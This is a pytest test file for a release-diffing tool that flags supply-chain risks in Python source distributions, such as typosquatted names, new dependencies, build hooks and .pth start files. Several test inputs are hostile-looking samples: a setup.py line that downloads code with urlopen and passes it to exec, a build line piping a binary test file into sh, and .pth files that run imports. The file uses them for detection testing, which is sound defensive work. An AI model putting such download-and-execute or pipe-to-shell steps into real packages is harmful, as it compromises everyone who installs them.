"""What changes in what a release states: who, what it needs, what it runs."""

from __future__ import annotations

import pytest

from diffoscope_sdist.comparators.analysis.archive.alerts import (
    Alert,
    AlertKind,
)
from diffoscope_sdist.comparators.analysis.findings.search import search
from tests.comparators.analysis.findings.cases import found, lines, releases


def pkg_info(version: str = "1.0", *fields: str, name: str = "pkg") -> bytes:
    head = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    return (head + "".join(f"{field}\n" for field in fields)).encode()


def stated(
    old: tuple[str, ...], new: tuple[str, ...], version: str = "1.1"
) -> list[str]:
    return lines(
        {"PKG-INFO": pkg_info("1.0", *old)},
        {"PKG-INFO": pkg_info(version, *new)},
    )


FIELDS: dict[str, tuple[tuple[str, ...], tuple[str, ...], list[str]]] = {
    "another address": (
        ("Author-email: A <a@a.org>",),
        ("Author-email: A <b@b.org>",),
        ["review author-changed mail: a@a.org → b@b.org"],
    ),
    "another maintainer": (
        ("Author: A", "Author-email: a@a.org"),
        ("Author: A", "Author-email: a@a.org", "Maintainer: M"),
        ["review author-changed name: added: M"],
    ),
    "a number of others": (
        ("Author: A and 1 other",),
        ("Author: A and 2 others",),
        [],
    ),
    "another number in a name": (
        ("Author: A1",),
        ("Author: A2",),
        ["review author-changed name: A1 → A2"],
    ),
    "a name that moved beside its address": (
        ("Author: A", "Author-email: a@a.org"),
        ("Author-email: A <a@a.org>",),
        [],
    ),
    "another host": (
        ("Home-page: https://a.org/pkg",),
        ("Home-page: https://b.org/pkg",),
        [
            "review url-changed Home-page: https://a.org/pkg → "
            "https://b.org/pkg"
        ],
    ),
    "another owner on a forge": (
        ("Project-URL: Source, https://github.com/a/pkg",),
        ("Project-URL: Source, https://github.com/b/pkg",),
        [
            "review url-changed Source: https://github.com/a/pkg → "
            "https://github.com/b/pkg"
        ],
    ),
    "another path": (
        ("Home-page: https://a.org/pkg",),
        ("Home-page: https://a.org/new",),
        ["note url-changed Home-page: https://a.org/pkg → https://a.org/new"],
    ),
    "another label": (
        ("Home-page: https://a.org/pkg",),
        ("Project-URL: Homepage, https://a.org/pkg/",),
        [],
    ),
    "another license": (
        ("License: MIT",),
        ("License: Proprietary",),
        ["note license-metadata MIT → Proprietary"],
    ),
    "a new requirement": (
        ("Requires-Dist: a",),
        ("Requires-Dist: a", "Requires-Dist: b>=1"),
        ["review new-dependency b>=1"],
    ),
    "a requirement in another spelling": (
        ("Requires-Dist: a_b (>=1)",),
        ("Requires-Dist: A-b>=1",),
        [],
    ),
    "a requirement that is gone": (
        ("Requires-Dist: a", "Requires-Dist: b"),
        ("Requires-Dist: a",),
        ["note removed-dependency b"],
    ),
    "the first extra": (
        (),
        ("Provides-Extra: x", 'Requires-Dist: a; extra == "x"'),
        ["note extra-changed x: added, a"],
    ),
    "a bound that is gone": (
        ("Requires-Dist: a<2,>=1",),
        ("Requires-Dist: a>=1",),
        ["note loosened-dependency a: <2,>=1 → >=1"],
    ),
    "a bound that came": (
        ("Requires-Dist: a>=1",),
        ("Requires-Dist: a<2,>=1",),
        [],
    ),
    "a release that is no longer kept out": (
        ("Requires-Dist: a!=1.5,>=1",),
        ("Requires-Dist: a>=1",),
        ["note loosened-dependency a: !=1.5,>=1 → >=1"],
    ),
    "an older release that is let in": (
        ("Requires-Dist: a>=2",),
        ("Requires-Dist: a>=1",),
        ["note loosened-dependency a: >=2 → >=1"],
    ),
    "a pin that moves": (
        ("Requires-Dist: a==1",),
        ("Requires-Dist: a==2",),
        [],
    ),
    "other clauses for the same": (
        ("Requires-Dist: a~=1.4",),
        ("Requires-Dist: a>=1.4,==1.*",),
        [],
    ),
    "a marker that is gone": (
        ('Requires-Dist: a<2; sys_platform == "win32"',),
        ("Requires-Dist: a<2",),
        [
            'note loosened-dependency a: only where sys_platform == "win32" '
            "→ everywhere"
        ],
    ),
    "a marker that came": (
        ("Requires-Dist: a",),
        ('Requires-Dist: a; sys_platform == "win32"',),
        [],
    ),
    "an address": (
        ("Requires-Dist: a",),
        ("Requires-Dist: a @ https://a.org/a.zip",),
        ["alert direct-url a @ https://a.org/a.zip"],
    ),
    "another Python": (
        ("Requires-Python: >=3.7",),
        ("Requires-Python: >= 3.8",),
        ["note python-requirement >=3.7 → >=3.8"],
    ),
    "the same Python": (
        ("Requires-Python: >=3.7",),
        ("Requires-Python: >= 3.7",),
        [],
    ),
    "an extra": (
        ("Provides-Extra: x", 'Requires-Dist: a; extra == "x"'),
        (
            "Provides-Extra: x",
            'Requires-Dist: a; extra == "x"',
            'Requires-Dist: b; extra == "x"',
        ),
        ["note extra-changed x: newly requires b"],
    ),
}


@pytest.mark.parametrize(
    ("old", "new", "expected"), FIELDS.values(), ids=FIELDS
)
def test_fields(
    old: tuple[str, ...], new: tuple[str, ...], expected: list[str]
) -> None:
    assert stated(old, new) == expected
    assert stated(new, new) == []


def test_a_new_requirement_of_a_correction_is_an_alert() -> None:
    assert stated((), ("Requires-Dist: b",), "1.0.1") == [
        "alert new-dependency b"
    ]


def test_another_name() -> None:
    old = {"PKG-INFO": pkg_info(name="colorama")}
    new = {"PKG-INFO": pkg_info("1.1", name="colourama")}
    assert lines(old, new) == ["alert name-changed colorama → colourama"]
    assert lines(old, {"PKG-INFO": pkg_info("1.1", name="Colorama")}) == []


def test_the_same_version_with_other_content() -> None:
    old = {"PKG-INFO": pkg_info(), "a.txt": b"1"}
    new = {"PKG-INFO": pkg_info(), "a.txt": b"2"}
    assert lines(old, new) == [
        "review same-version 1.0, and 1 member changed, added or removed"
    ]
    assert lines(old, old) == []


def test_an_older_version() -> None:
    old = {"PKG-INFO": pkg_info("2.0")}
    new = {"PKG-INFO": pkg_info("1.0")}
    assert lines(old, new) == ["review downgrade 2.0 → 1.0"]


def test_a_contradiction() -> None:
    both = releases({"PKG-INFO": pkg_info()}, {"PKG-INFO": pkg_info("1.1")})
    sentence = "2 versions stated: 1.0 in PKG-INFO; 1.1 in setup.py"
    odd = both.new._replace(contradictions=(sentence,))
    codes = [
        (each.code.value, each.sentence)
        for each in search(both._replace(new=odd)).findings
    ]
    assert codes == [("version-contradiction", sentence)]
    said = [f"2 {what} stated: another" for what in ("versions", "names")]
    for known, count in ((said, 0), (said[1:], 1)):
        old = both.old._replace(contradictions=tuple(known))
        assert len(search(both._replace(old=old, new=odd)).findings) == count


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("LICENSE", ["review license-text LICENSE changed"]),
        ("a/_vendor/LICENSE", ["note license-text a/_vendor/LICENSE changed"]),
        ("license.py", []),
    ],
)
def test_a_license_text(path: str, expected: list[str]) -> None:
    old, new = {path: b"do what\nyou want\n"}, {path: b"do not\nyou want\n"}
    assert lines(old, new) == expected
    assert lines(new, new) == []


@pytest.mark.parametrize(
    ("new", "words"),
    [
        (b"(c) 2024 A\n", "numbers"),
        (b"(c)  2023 A\r\n", "white space"),
        (b"(c) 2024 A", "numbers and white space"),
    ],
)
def test_little_in_a_license_is_a_note(new: bytes, words: str) -> None:
    assert lines({"LICENSE": b"(c) 2023 A\n"}, {"LICENSE": new}) == [
        f"note license-text LICENSE changed, nothing but {words}"
    ]


@pytest.mark.parametrize(
    ("path", "new", "expected"),
    [
        (
            "requirements.txt",
            "--extra-index-url https://a.org/simple\n",
            ["--extra-index-url https://a.org/simple"],
        ),
        (
            "requirements.txt",
            "a\n--extra-index-url \\\n  https://a.org\u2028--ex=https://b.org\n"
            "-ihttps://c.org\n",
            [
                "--ex=https://b.org",
                "--extra-index-url   https://a.org",
                "-ihttps://c.org",
            ],
        ),
        (
            "pkg.egg-info/dependency_links.txt",
            "https://a.org/a.zip\n",
            ["https://a.org/a.zip"],
        ),
        (
            "setup.py",
            "import setuptools\n"
            "setuptools.setup(dependency_links=['https://a.org'])\n",
            ["https://a.org"],
        ),
        (
            "setup.cfg",
            "[options]\ndependency_links = https://a.org\n",
            ["https://a.org"],
        ),
        ("requirements.txt", "a\n# --index-url is not set\n", []),
        ("docs/requirements.txt", "-i https://a.org\n", []),
    ],
    ids=[
        "index",
        "as pip reads lines",
        "link",
        "setup.py",
        "setup.cfg",
        "comment",
        "docs",
    ],
)
def test_another_place_to_look(
    path: str, new: str, expected: list[str]
) -> None:
    links = lines({path: b"a\n"}, {path: new.encode()}, "dependency-link")
    assert links == [f"alert dependency-link {path}: {e}" for e in expected]
    both = {path: new.encode()}
    assert lines(both, both) == []


def points(group: str, *entries: str) -> bytes:
    lines = "".join(f"{entry}\n" for entry in entries)
    return f"[{group}]\n{lines}".encode()


POINTS = {
    "a command": (
        "console_scripts",
        "run = pkg:main",
        ["review new-command run = pkg:main"],
    ),
    "a known tool": (
        "console_scripts",
        "pip = pkg:main",
        ["alert new-command pip = pkg:main, in place of the known tool pip"],
    ),
    "a plugin of pytest": (
        "pytest11",
        "p = pkg.plugin",
        ["review pytest-plugin p = pkg.plugin"],
    ),
    "a plugin of setuptools": (
        "distutils.commands",
        "p = pkg.plugin:P",
        [
            "review autoloaded-plugin p = pkg.plugin:P, by setuptools, in "
            "every build"
        ],
    ),
    "a plugin of anything": (
        "pkg.things",
        "p = pkg.plugin",
        ["note new-command [pkg.things] p = pkg.plugin"],
    ),
}


@pytest.mark.parametrize(
    ("group", "entry", "expected"), POINTS.values(), ids=POINTS
)
def test_entry_points(group: str, entry: str, expected: list[str]) -> None:
    old = {"PKG-INFO": pkg_info()}
    new = {
        "PKG-INFO": pkg_info("1.1"),
        "pkg.egg-info/entry_points.txt": points(group, entry),
    }
    assert lines(old, new) == expected
    assert lines(new, new | {"README": b""}, "new-command") == []


def test_a_command_that_does_something_else() -> None:
    path = "pkg.egg-info/entry_points.txt"
    old = {path: points("console_scripts", "run = pkg:main")}
    new = {path: points("console_scripts", "run = pkg:other")}
    assert lines(old, new) == ["review new-command run = pkg:main → pkg:other"]


COMMANDS = {
    "added beside the old one": (
        "run = pkg:main\nrun = evil:main",
        ["review new-command run = evil:main beside pkg:main"],
    ),
    "added before the old one": (
        "run = evil:main\nrun = pkg:main",
        ["review new-command run = evil:main beside pkg:main"],
    ),
    "in a second section": (
        "run = pkg:main\n[console_scripts]\nrun = evil:main",
        ["review new-command run = evil:main beside pkg:main"],
    ),
    "with an extra": (
        "run = pkg:main [evil]",
        ["review new-command run = pkg:main → pkg:main [evil]"],
    ),
    "over two lines": (
        "run = pkg:main\nfly =\n  evil:main",
        ["review new-command fly = evil:main"],
    ),
    "behind a line separator": (
        "run = pkg:main\u2028fly = evil:main",
        ["review new-command fly = evil:main"],
    ),
    "only written otherwise": ("run=pkg : main\nrun = pkg:main", []),
}


@pytest.mark.parametrize(("new", "expected"), COMMANDS.values(), ids=COMMANDS)
def test_a_command_is_compared_with_all_of_its_name(
    new: str, expected: list[str]
) -> None:
    path = "pkg.egg-info/entry_points.txt"
    old = {path: points("console_scripts", "run = pkg:main")}
    assert (
        lines(old, {path: points("console_scripts", new)}, "new-command")
        == expected
    )


def test_a_command_that_moved_to_another_file_is_none() -> None:
    old = {
        "setup.cfg": b"[metadata]\nname = pkg\n[options.entry_points]\n"
        b"console_scripts =\n    run = pkg:main\n"
    }
    new = {
        "pyproject.toml": b'[project]\nname = "pkg"\n[project.scripts]\n'
        b'run = "pkg:main"\n'
    }
    assert lines(old, new, "new-command") == []


def build(text: str) -> bytes:
    return f"[build-system]\n{text}\n".encode()


def setting(text: str) -> str:
    return f"review pyproject.toml: {text}"


BUILDS = {
    "another backend": (
        build('build-backend = "hatchling.build"'),
        build('build-backend = "own.backend"'),
        ["review build backend hatchling.build → own.backend"],
    ),
    "the usual backend": (
        b"",
        build('build-backend = "setuptools.build_meta"'),
        [],
    ),
    "a path of the backend": (
        build('build-backend = "setuptools.build_meta"'),
        build('build-backend = "setuptools.build_meta"\nbackend-path = ["b"]'),
        ["review the build backend is imported from b/ of the archive"],
    ),
    "an unusual requirement": (
        build('requires = ["setuptools"]'),
        build('requires = ["setuptools", "evil"]'),
        ["review newly required to build: evil"],
    ),
    "a usual requirement": (
        build('requires = ["setuptools"]'),
        build('requires = ["setuptools", "wheel"]'),
        ["note newly required to build: wheel"],
    ),
    "a hook": (
        b"",
        b'[tool.hatch.build.hooks.custom]\npath = "hook.py"\n',
        [setting('tool.hatch.build.hooks.custom.path = "hook.py"')],
    ),
    "a hook without a path": (
        b"",
        b'[tool.hatch.build.hooks.vcs]\nversion-file = "v.py"\n'
        b"[tool.hatch.build.hooks.custom]\n",
        [
            setting("tool.hatch.build.hooks.custom = {}"),
            setting('tool.hatch.build.hooks.vcs.version-file = "v.py"'),
        ],
    ),
    "code for the version": (
        b"",
        b'[tool.hatch.version]\nsource = "code"\npath = "v.py"\n',
        [
            setting('tool.hatch.version.path = "v.py"'),
            setting('tool.hatch.version.source = "code"'),
        ],
    ),
    "a pattern for the version": (
        b"",
        b'[tool.hatch.version]\npath = "v.py"\n',
        [],
    ),
    "a function for the version": (
        b"[tool.setuptools_scm]\n",
        b'[tool.setuptools_scm]\nversion_scheme = "m:f"\n'
        b'local_scheme = "no-local-version"\n',
        [setting('tool.setuptools_scm.version_scheme = "m:f"')],
    ),
    "a script": (
        b"",
        b'[tool.poetry.build]\nscript = "build.py"\n',
        [setting('tool.poetry.build.script = "build.py"')],
    ),
    "an attribute": (
        b"",
        b'[tool.setuptools.dynamic]\nversion.attr = "p.v"\n',
        [setting('tool.setuptools.dynamic.version.attr = "p.v"')],
    ),
    "another manifest": (
        build('requires = ["maturin"]'),
        build('requires = ["maturin"]')
        + b'[tool.maturin]\nmanifest-path = "a/Cargo.toml"\nstrip = true\n',
        [setting('tool.maturin.manifest-path = "a/Cargo.toml"')],
    ),
    "arguments of meson": (
        b"",
        b'[tool.meson-python.args]\nsetup = ["--native-file=a"]\n',
        [setting('tool.meson-python.args.setup = ["--native-file=a"]')],
    ),
    "a setting of a tool by its requirement": (
        build('requires = ["py_build_cmake"]'),
        build('requires = ["py_build_cmake"]')
        + b'[tool.py-build-cmake.cmake]\nsource_path = "a"\n',
        [setting('tool.py-build-cmake.cmake.source_path = "a"')],
    ),
    "what declares something": (
        build('requires = ["setuptools"]'),
        build('requires = ["setuptools"]')
        + b'[tool.setuptools.packages.find]\nwhere = ["src"]\n'
        b'[tool.hatch.build.targets.wheel]\ninclude = ["a"]\n'
        b'[tool.hatch.envs.x]\nscripts.a = "b"\n[tool.ruff]\nfix = true\n',
        [],
    ),
}


@pytest.mark.parametrize(
    ("old", "new", "expected"), BUILDS.values(), ids=BUILDS
)
def test_builds(old: bytes, new: bytes, expected: list[str]) -> None:
    head = b'[project]\nname = "p"\nversion = "%s"\n'
    result = [
        f"{each.severity.value} {each.sentence}"
        for each in found(
            {"pyproject.toml": head % b"1.0" + old},
            {"pyproject.toml": head % b"1.1" + new},
        )
        if each.code.value == "runs-at-build"
    ]
    assert result == expected


SETTINGS = {
    "a command of its own": (
        "[options]\ncmdclass =\n  sdist = p.build.Own\n",
        'options.cmdclass = "sdist = p.build.Own"',
    ),
    "a package of commands": (
        "[global]\ncommand-packages = p\n",
        'global.command_packages = "p"',
    ),
    "a default": ("[DEFAULT]\na = p\n", 'DEFAULT.a = "p"'),
    "a hook of pbr": (
        "[global]\nsetup-hooks = p.h\n",
        'global.setup_hooks = "p.h"',
    ),
    "an alias": ("[aliases]\nbuild = p\n", 'aliases.build = "p"'),
    "an index": (
        "[easy_install]\nindex_url = https://a.org\n",
        'easy_install.index_url = "https://a.org"',
    ),
    "a program": (
        "[build_scripts]\nexecutable = /p\n",
        'build_scripts.executable = "/p"',
    ),
    "an attribute": (
        "[metadata]\nversion = attr: p.v\n",
        'metadata.version = "attr: p.v"',
    ),
    "another spelling": ("[build_ext]\nswig_opts = -py3\n", ""),
    "what runs nothing": (
        "[options]\npackages = p\n[tool:x]\ncmdclass = p\n"
        "[egg_info]\ntag_date = 0\n[bdist_wheel]\nuniversal = 1\n",
        "",
    ),
}


@pytest.mark.parametrize(("new", "expected"), SETTINGS.values(), ids=SETTINGS)
def test_what_setup_cfg_has_setuptools_run(new: str, expected: str) -> None:
    old = {"setup.cfg": b"[build_ext]\nswig-opts = -py3\n"}
    found = [f"review runs-at-build setup.cfg: {expected}"] * bool(expected)
    tree = {"setup.cfg": new.encode()}
    assert lines(old, tree, "runs-at-build") == found
    assert lines(tree, {"setup.cfg": tree["setup.cfg"] + b"[b]\n"}) == []


@pytest.mark.parametrize(
    ("path", "module"),
    [
        ("setuptools.py", "setuptools"),
        ("distutils/__init__.py", "distutils"),
        ("json.cpython-312-x86_64-linux-gnu.so", "json"),
        ("hatch_vcs.pyc", "hatch_vcs"),
        ("src/json.py", ""),
        ("json/data.py", ""),
        ("test/__init__.py", ""),
        ("conf.py", ""),
    ],
)
def test_a_module_in_the_place_of_another(path: str, module: str) -> None:
    old = {"pyproject.toml": build('requires = ["hatchling", "hatch-vcs"]')}
    expected = [
        f"alert runs-at-build {path}: in place of the module {module}, for "
        "what is imported from the root directory"
    ]
    new = old | {path: b"x = 1\n"}
    assert lines(old, new, "runs-at-build") == expected * bool(module)
    assert lines(new, new | {path: b"x = 2\n"}, "runs-at-build") == []


def test_a_module_in_the_place_of_another_for_a_backend() -> None:
    old = {"pyproject.toml": build('backend-path = ["./b"]')}
    new = old | {"b/json.py": b"", "c/json.py": b""}
    assert lines(old, new, "runs-at-build") == [
        "alert runs-at-build b/json.py: in place of the module json, for what "
        "is imported from b/"
    ]


SETTING_FILES = {
    "of hatch": (
        "hatch.toml",
        'version.source = "code"\nversion.path = "a"\nenvs.a.scripts.b = "c"\n',
        ['version.path = "a"', 'version.source = "code"'],
    ),
    "of cargo": (
        "rust/.cargo/config.toml",
        '[build]\nrustc-wrapper = "a"\n',
        ['build.rustc-wrapper = "a"'],
    ),
    "of rustup": (
        "rust-toolchain.toml",
        '[toolchain]\npath = "a"\nchannel = "1.80"\n',
        ['toolchain.path = "a"'],
    ),
    "of a test": ("tests/.cargo/config.toml", '[build]\nrustc = "a"\n', []),
}


@pytest.mark.parametrize(
    ("path", "new", "expected"), SETTING_FILES.values(), ids=SETTING_FILES
)
def test_a_file_of_settings(path: str, new: str, expected: list[str]) -> None:
    tree = {path: new.encode()}
    found = [f"review runs-at-build {path}: {each}" for each in expected]
    assert lines({}, tree, "runs-at-build") == found
    assert lines(tree, {path: tree[path] + b"# b\n"}) == []


REPOSITORIES = {
    "settings": (
        [".git/HEAD", ".git/config"],
        "alert runs-at-build .git: part of a repository is new or changed, "
        "config",
    ),
    "a hook": (
        ["a/.git/hooks/pre-push"],
        "alert runs-at-build a/.git: part of a repository is new or changed, "
        "hooks/pre-push",
    ),
    "of Mercurial": (
        [".hg/hgrc"],
        "alert runs-at-build .hg: part of a repository is new or changed, "
        "hgrc",
    ),
    "a place of another": (
        [".git"],
        "alert runs-at-build .git: part of a repository is new or changed",
    ),
    "of Subversion": (
        [".svn/wc.db"],
        "review runs-at-build .svn: part of a repository is new or changed, "
        "wc.db",
    ),
    "without a working tree": (
        ["a/HEAD", "a/config", "a/objects/b", "a/refs/c"],
        "alert runs-at-build a: part of a repository is new or changed, "
        "config",
    ),
    "of a test": (
        ["tests/.git/config"],
        "note runs-at-build tests/.git: part of a repository is new or "
        "changed, config",
    ),
    "what is called so": ([".gitignore", "a.git/x", "a/HEAD", "a/config"], ""),
}


@pytest.mark.parametrize(
    ("paths", "expected"), REPOSITORIES.values(), ids=REPOSITORIES
)
def test_a_repository_inside(paths: list[str], expected: str) -> None:
    new = dict.fromkeys(paths, b"a\n")
    found = [expected] if expected else []
    assert lines({}, new, "runs-at-build") == found
    assert lines(new, new | {"b": b""}, "runs-at-build") == []


SCRIPTS = {
    "what is downloaded and executed": (
        "from urllib.request import urlopen\n"
        "exec(urlopen('http://a.org').read())\n",
        [
            "alert setup.py:5 builtins.exec executes what was downloaded",
        ],
    ),
    "what is downloaded first": (
        "from urllib.request import urlopen\n"
        "text = urlopen('http://a.org').read()\nexec(text)\n",
        [
            "alert setup.py:6 builtins.exec executes what was downloaded",
            "alert setup.py:5 calls urllib.request.urlopen",
        ],
    ),
    "a function that is passed on": (
        "import os\nlist(map(os.system, ['x']))\n",
        ["review setup.py:5 uses os.system"],
    ),
    "a program": (
        "import subprocess\nsubprocess.run(['make'])\n",
        ["review setup.py:5 calls subprocess.run"],
    ),
    "a command of its own": (
        "setup(cmdclass={'install': Install})\n",
        ["review setup.py:4 newly has cmdclass"],
    ),
    "another call": ("prepare()\n", ["note setup.py:4 newly calls prepare"]),
    "a function of a module": (
        "import os\nos.remove('x')\n",
        ["note setup.py:5 newly calls remove"],
    ),
    "a method of a path": (
        "from pathlib import Path\nPath('x').write_text('')\n",
        ["note setup.py:5 newly calls write_text"],
    ),
    "methods of texts and of what is found in them": (
        "import re\nm = re.match('(.)', 'x').groups()\n"
        "for a in open('v'):\n    m = m + a.casefold().splitlines()\n",
        [],
    ),
    "values": ("v = open('v').read().strip()\nx = {'a': [1, 2]}\n", []),
}


@pytest.mark.parametrize(("new", "expected"), SCRIPTS.values(), ids=SCRIPTS)
def test_setup_scripts(new: str, expected: list[str]) -> None:
    old = "from setuptools import setup\n\nsetup(name='p')\n"
    result = lines(
        {"setup.py": old.encode()},
        {"setup.py": (old + new).encode()},
    )
    assert result == [
        line.replace(" ", " runs-at-build ", 1) for line in expected
    ]
    both = {"setup.py": (old + new).encode()}
    assert lines(both, both | {"README": b""}) == []


START = "runs-at-start"


def test_files_that_run_at_start() -> None:
    assert lines({}, {"a.pth": b"import os; os.getpid()\n"}) == [
        "alert runs-at-start a.pth added: 1 new line, runs import os; "
        "os.getpid()"
    ]
    assert lines({}, {"src/sitecustomize.py": b"x = 1\n"}) == [
        "alert runs-at-start src/sitecustomize.py added"
    ]
    for path in ("sitecustomize/__init__.py", "usercustomize.abi3.so"):
        assert f"alert runs-at-start {path} added" in lines({}, {path: b"1"})
    assert lines({}, {"p/customize.py": b"x = 1\n"}) == []
    assert lines({}, {"a.pth": b"src\n"}) == [
        "review runs-at-start a.pth added: 1 new line, directories to import "
        "from"
    ]
    assert lines({"a.pth": b"import a\n"}, {"b.pth": b"import a\n"}) == []


@pytest.mark.parametrize(
    "between",
    ["\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\n\ufeff", "\n "],
    ids=ascii,
)
def test_a_line_of_a_start_file_as_some_python_cuts_it(between: str) -> None:
    new = f"lib{between}import os\n"
    [line] = lines({"a.pth": b"lib\n"}, {"a.pth": new.encode()}, START)
    assert line.startswith("alert ")
    assert " 1 new line, runs " in line and line.endswith("import os")
    quiet = f"lib{between}imports\n"
    [line] = lines({"a.pth": b"lib\n"}, {"a.pth": quiet.encode()}, START)
    assert line.startswith("review ")
    assert lines({"a.pth": new.encode()}, {"a.pth": b"lib\n"}, START) == []


@pytest.mark.parametrize(
    "content",
    [b"\xef\xbb\xbfimport os", b"lib\x85import os", b"import os\n\0"],
)
def test_a_start_file_that_is_no_plain_text(content: bytes) -> None:
    [line] = lines({}, {"a.pth": content}, START)
    assert line.startswith("alert ") and ", runs " in line


def test_a_build_that_reads_an_opaque_file() -> None:
    script = b"AC_INIT\nxz -dc tests/files/bad-3-corrupt_lzma2.xz | sh\n"
    old = {"configure.ac": b"AC_INIT\n"}
    new = {
        "configure.ac": script,
        "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + bytes(80),
    }
    assert lines(old, new, "build-reads-binary") == [
        "alert build-reads-binary configure.ac:2 reads "
        "tests/files/bad-3-corrupt_lzma2.xz, which is opaque and new or "
        "changed"
    ]
    assert (
        lines(
            old, new | {"configure.ac": b"AC_INIT\n\n"}, "build-reads-binary"
        )
        == []
    )
    assert lines(new, new, "build-reads-binary") == []


def test_a_build_that_reads_a_file_of_a_longer_name() -> None:
    old = {"Makefile": b"\tcp pkg/global.dat .\n"}
    new = old | {"pkg/bal.dat": b"\0"}
    assert lines(old, new, "build-reads-binary") == []
    new = old | {"pkg/global.dat": b"\0"}
    assert len(lines(old, new, "build-reads-binary")) == 1


def test_a_hook_that_reads_an_opaque_file() -> None:
    hook = b"[tool.hatch.build.hooks.custom]\npath = 'tools/a.py'\n"
    old = {"pyproject.toml": hook, "tools/a.py": b"open('data.bin')\n"}
    new = old | {"data.bin": b"\0"}
    assert lines(old, new) == [
        "alert build-reads-binary tools/a.py:1 reads data.bin, which is "
        "opaque and new or changed"
    ]
    assert (
        lines(old | {"pyproject.toml": b""}, {**new, "pyproject.toml": b""})
        == []
    )


def test_a_generated_file_without_its_source() -> None:
    old = {"a.c": b"/* Generated by Cython 3.0.1 */\n1", "a.pyx": b"x"}
    new = {"a.c": b"/* Generated by Cython 3.0.2 */\n2", "a.pyx": b"x"}
    assert lines(old, new) == [
        "review generated-without-source a.c changed, and a.pyx did not "
        "(Cython 3.0.1 → 3.0.2)"
    ]
    assert lines(old, new | {"a.pyx": b"y"}) == []


def test_a_name_that_is_stated_twice() -> None:
    old = {"PKG-INFO": b"Name: a\nVersion: 1\n"}
    new = {"PKG-INFO": b"Name: a\nName: evil\nVersion: 1\n"}
    assert lines(old, new, "name-changed") == [
        "alert name-changed a → a and evil"
    ]
    assert lines(new, new | {"a": b""}, "name-changed") == []


LIST = "p.egg-info/SOURCES.txt"


@pytest.mark.parametrize(
    ("listed", "files", "expected"),
    [
        (b"a.py\n", ("b.txt",), "not in SOURCES.txt: b.txt"),
        (b"", (), "not in SOURCES.txt: a.py"),
        (b"a.py\nb.txt\n", (), "only in SOURCES.txt: b.txt"),
        (b"a.py\nb.txt\n", ("b.txt",), ""),
        (b"./a.py\nd\\b.txt\n", ("d/b.txt",), ""),
        (b"a.py\nsetup.cfg\n", ("PKG-INFO",), ""),
        (b"a.py\nq.egg-info/x\n", ("q.egg-info/y",), ""),
        (b"a.py\nlost.py\n", ("extra",), ""),
    ],
    ids=[
        "new file",
        "no longer listed",
        "no file",
        "listed",
        "on Windows",
        "written with the archive",
        "of the build",
        "as before",
    ],
)
def test_what_the_list_of_the_build_does_not_have(
    listed: bytes, files: tuple[str, ...], expected: str
) -> None:
    old = {LIST: b"a.py\n", "a.py": b"x"}
    if b"lost" in listed:
        old |= {LIST: listed, "extra": b""}
    new = old | {LIST: listed} | dict.fromkeys(files, b"")
    code = "unlisted-in-sources"
    found = [f"note {code} {expected}"] if expected else []
    assert lines(old, new, code) == found


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        (AlertKind.READERS_DISAGREE, "readers-disagree"),
        (AlertKind.POLYGLOT, "polyglot"),
        (AlertKind.TRAILING_DATA, "trailing-data"),
        (AlertKind.WRITTEN_THROUGH_LINK, "new-link"),
    ],
)
def test_what_is_odd_about_an_archive(kind: AlertKind, code: str) -> None:
    both = releases({}, {})
    odd = both.new._replace(alerts=(Alert(kind, "a", "so"),))
    [only] = search(both._replace(new=odd)).findings
    assert (only.severity.value, only.code.value) == ("alert", code)
    assert only.sentence == f"{kind.value}: a so"
    old = both.old._replace(alerts=(Alert(kind, "a", "else"),))
    assert search(both._replace(old=old, new=odd)).findings == ()


def test_two_things_that_are_odd_about_one_member() -> None:
    both = releases({}, {})
    kinds = AlertKind.READERS_DISAGREE, AlertKind.REFUSED
    alerts = [Alert(kind, "a", "so") for kind in kinds]
    odd = both.new._replace(alerts=(*alerts, alerts[0]))
    found = search(both._replace(new=odd)).findings
    assert {each.sentence for each in found} == {
        f"{kind.value}: a so" for kind in kinds
    }
    assert len(found) == 2


def test_each_thing_that_is_odd_about_the_whole_archive() -> None:
    both = releases({}, {})
    tar, zip_ = (Alert(AlertKind.POLYGLOT, "", w) for w in ("tar", "zip"))
    old = both.old._replace(alerts=(tar,))
    new = both.new._replace(alerts=(tar, zip_))
    only_new = search(both._replace(new=new)).findings
    assert len(only_new) == 2
    [more] = search(both._replace(old=old, new=new)).findings
    assert more.sentence == f"{AlertKind.POLYGLOT.value}: zip"


DYNAMIC = {
    "a list under a name": (
        "import sys\nrequires = ['a']\nif sys.argv:\n    print()\n",
        "install_requires=list(set(requires))",
        "['a']",
        "['a', 'evil>=1']",
    ),
    "a list that is added to": (
        "requires = ['a']\nif input():\n    requires.append('a')\n",
        "install_requires=requires",
        "append('a')",
        "append('evil>=1')",
    ),
}


@pytest.mark.parametrize(
    ("head", "argument", "before", "after"), DYNAMIC.values(), ids=DYNAMIC
)
def test_a_requirement_that_only_running_would_tell(
    head: str, argument: str, before: str, after: str
) -> None:
    script = f"{head}from setuptools import setup\nsetup({argument})\n"
    stale = {"PKG-INFO": pkg_info("1.0", "Requires-Dist: a")}
    old = stale | {"setup.py": script.encode()}
    new = stale | {"setup.py": script.replace(before, after).encode()}
    assert lines(old, new, "new-dependency") == [
        "alert new-dependency evil>=1"
    ]
    assert lines(new, new, "new-dependency") == []


def test_a_requirement_in_a_file_that_setup_py_reads() -> None:
    script = (
        b"from setuptools import setup\n"
        b"def needs():\n    return open('needs.txt').read().split()\n"
        b"setup(name='p', version='1', install_requires=needs())\n"
    )
    old = {"setup.py": script, "needs.txt": b"a\n"}
    new = {"setup.py": script, "needs.txt": b"a\nevil>=1\n"}
    [line] = lines(old, new, "new-dependency")
    assert line.endswith("new-dependency evil>=1")


def test_python_that_setup_py_alone_requires() -> None:
    head = "from setuptools import setup\nsetup(python_requires="
    stale = {"PKG-INFO": pkg_info("1.0", "Requires-Python: >=3.8")}
    old = stale | {"setup.py": f"{head}'>=3.8')\n".encode()}
    new = stale | {"setup.py": f"{head}'>=2.7')\n".encode()}
    assert lines(old, new, "python-requirement") == [
        "note python-requirement >=3.8 → >=2.7"
    ]


@pytest.mark.parametrize(
    "old",
    [
        {
            "setup.py": b"from setuptools import setup\n"
            b"setup(name='p', install_requires=needs())\n"
        },
        {
            "pyproject.toml": b'[project]\nname = "p"\n'
            b'dynamic = ["dependencies"]\n'
        },
    ],
    ids=["setup.py", "pyproject.toml"],
)
